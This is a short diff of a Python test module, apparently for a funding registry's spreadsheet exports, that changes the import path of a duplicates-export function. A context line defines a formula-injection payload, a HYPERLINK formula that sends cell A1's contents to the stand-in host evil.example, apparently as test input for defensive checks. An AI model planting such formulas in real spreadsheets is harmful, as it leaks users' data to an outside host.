@@ -14,7 +14,7 @@ from importers.declaration_form import write_declaration
 from importers.problems import Problem
 from registry.funding.export import write_budget_report, write_directory, write_funding_report
 from registry.funding.storage import LocalUpload
-from search.export import write_duplicates_xlsx
+from search.duplicates.export import write_duplicates_xlsx
 from tests.funding_support import compliant_system
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
